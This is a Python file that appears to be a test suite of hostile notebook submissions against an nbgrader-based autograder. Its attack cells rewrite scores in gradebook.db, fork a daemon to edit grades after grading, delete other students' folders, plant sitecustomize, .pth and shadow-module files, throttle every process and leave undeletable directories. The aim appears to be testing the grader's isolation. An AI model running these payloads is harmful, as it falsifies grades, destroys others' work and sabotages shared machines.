"""Attempts to change what is not theirs: others' work, the gradebook, the kit, the next run."""

from __future__ import annotations

from functools import partial

from attacks import READ, TELL, Attack

write = partial(Attack, kind="write", earns=10, keeps=10, base="solution")

DATABASES = """
import glob, os, sqlite3
places = ["gradebook.db", "../../../gradebook.db", "@CLASS@/../gradebook.db"]
def change(statement):
    for place in places:
        if os.path.exists(place):
            try:
                with sqlite3.connect(place, timeout=1) as database:
                    database.execute(statement)
            except sqlite3.Error:
                pass
"""

ATTACKS = (
    write(
        name="sqlite_manual_score",
        what="sets every manual score in nbgrader's database to 99",
        row="sqlite manual_score=99",
        cells={"last": DATABASES + "change('UPDATE grade SET manual_score = 99')"},
    ),
    write(
        name="sqlite_extra_credit",
        what="sets extra credit of 7 points in nbgrader's database",
        row="extra_credit=7",
        cells={"last": DATABASES + "change('UPDATE grade SET extra_credit = 7')"},
    ),
    write(
        name="sqlite_daemon",
        what="a double-forked daemon edits the database after grading",
        row="double-forked daemon edits the database after grading",
        cells={
            "last": DATABASES
            + """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for i in range(20):
            time.sleep(3)
            change("UPDATE grade SET manual_score = 4.5")
    os._exit(0)
"""
        },
    ),
    write(
        name="sqlite_lock",
        what="a child holds the lock of the database",
        row="child holds the sqlite lock",
        cells={
            "last": DATABASES
            + """
import time
if os.fork() == 0:
    os.setsid()
    held = [sqlite3.connect(place) for place in places if os.path.exists(place)]
    for database in held:
        database.execute("BEGIN EXCLUSIVE")
    time.sleep(60)
    os._exit(0)
"""
        },
    ),
    write(
        name="deletes_other_submissions",
        what="deletes, and writes into, the folders of other students",
        row="deletes another student's folder",
        cells={
            "last": """
import glob, os, shutil
for place in ("@CLASS@", "../..", "../../../submitted"):
    for folder in glob.glob(place + "/*honest*"):
        shutil.rmtree(folder, ignore_errors=True)
for place in ("@CLASS@", "@OUTPUT@", "@HOME@", "@OUTSIDE@"):
    try:
        os.makedirs(place, exist_ok=True)
        open(place + "/hostile_was_here", "w").write("hostile")
    except OSError:
        pass
"""
        },
    ),
    Attack(
        name="rewrites_the_kit",
        kind="read",  # it tells which of them it could write to
        what="writes into the kit, site-packages and the standard library",
        earns=0,
        machine="would change the installed packages",
        cells={
            "load": READ
            + """
import os, pathlib, site, autograder, course_data, torch
def plant(folder):
    open(folder / "__init__.py", "a").close() if (folder / "__init__.py").exists() else None
    (folder / "hostile.pth").write_text("")
    (folder / "hostile.pth").unlink()
    return folder
folders = [pathlib.Path(m.__file__).parent for m in (autograder, course_data, torch, os)]
for folder in folders + [pathlib.Path(name) for name in site.getsitepackages()]:
    take(folder, lambda: plant(folder))
"""
            + TELL
        },
    ),
    write(
        name="plants_startup_files",
        what="plants sitecustomize, .pth, IPython start-up, conftest and modules for the next one",
        machine="would leave files in the home folder",
        cells={
            "last": """
import os, pathlib
home = pathlib.Path.home()
bad = "import os; os.environ['HOSTILE_LEFT'] = '1'; raise SystemExit\\n"
names = ["sitecustomize.py", "usercustomize.py", "conftest.py", "pytest.ini", "hostile_left.py",
         "PIL.py", "kiwisolver.py", "sqlite3.py", "torch.py", "pandas.py", ".pythonrc.py",
         ".ipython/profile_default/startup/00-hostile.py", ".config/matplotlib/matplotlibrc",
         ".local/lib/python3.11/site-packages/hostile.pth"]
for place in (home, pathlib.Path("/tmp"), pathlib.Path.cwd(), pathlib.Path.cwd().parent,
              pathlib.Path("/dev/shm"), pathlib.Path("@HOME@"), pathlib.Path("@CLASS@")):
    for name in names:
        try:
            (place / name).parent.mkdir(parents=True, exist_ok=True)
            (place / name).write_text(bad)
        except OSError:
            pass
"""
        },
    ),
    write(
        name="leaves_what_cannot_be_deleted",
        what="leaves folders without permissions, and 3,000 levels deep, in /tmp for the next one",
        machine="would leave folders that are hard to delete",
        cells={
            "last": """
import os
for place in ("/tmp", "/dev/shm"):
    os.makedirs(f"{place}/PIL/hostile_inner")
    open(f"{place}/PIL/__init__.py", "w").write("raise SystemExit('hostile')")
    open(f"{place}/hostile_left.py", "w").write("")
    os.chmod(f"{place}/PIL", 0o555)
    os.makedirs(f"{place}/hostile_locked")
    os.chmod(f"{place}/hostile_locked", 0)
here = os.getcwd()
os.mkdir("/tmp/hostile_deep")
os.chdir("/tmp/hostile_deep")
for i in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)
"""
        },
    ),
    write(
        name="limits_the_warm_process",
        what="lowers limits, priority and processors of every process it sees",
        machine="would limit processes of this machine",
        cells={
            "last": """
import os, resource
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid == os.getpid():
        continue
    for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_CPU):
        try:
            resource.prlimit(pid, limit, (6, 6))
        except OSError:
            pass
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))})
    except OSError:
        pass
"""
        },
    ),
    write(
        name="changes_the_process_for_the_next_one",
        what="changes variables, umask, locale, working folder, signal handlers and sys.path",
        cells={
            "last": """
import locale, os, shutil, signal, sys
os.environ.clear()
os.environ["HOSTILE_LEFT"] = "1"
os.umask(0)
locale.setlocale(locale.LC_ALL, "C")
for number in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
sys.path[:] = ["/tmp"]
sys.setrecursionlimit(60)
"""
        },
    ),
    Attack(
        name="edits_the_data_in_place",
        kind="write",
        what="overwrites the data file with one row, so that its typed counts seem right",
        earns=4,  # three columns of these names and types
        cells={
            "load": """
import os
for file in (os.environ.get("COURSE_DATA", ""), "user_artists.dat", str(course_data.path(
        "user_artists.dat"))):
    try:
        with open(file, "w") as out:
            out.write("userID\\tartistID\\tweight\\n1\\t1\\t1\\n")
    except OSError:
        pass
df = pd.DataFrame({"userID": [1], "artistID": [1], "listen_count": [1]})
""",
            "explore": "n_users = n_artists = 1\npreview = 0",
        },
        machine="would overwrite the installed sample",
    ),
)
